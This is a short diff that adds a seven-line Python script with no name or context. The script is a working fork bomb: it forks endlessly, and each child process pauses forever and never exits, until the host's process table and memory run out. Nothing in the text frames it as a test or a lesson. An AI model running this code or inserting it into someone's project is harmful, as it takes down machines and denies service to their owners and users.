@@ -1,0 +1,7 @@
+import os
+import signal
+
+signal.signal(signal.SIGCHLD, signal.SIG_DFL)
+while True:
+    if os.fork() == 0:
+        signal.pause()
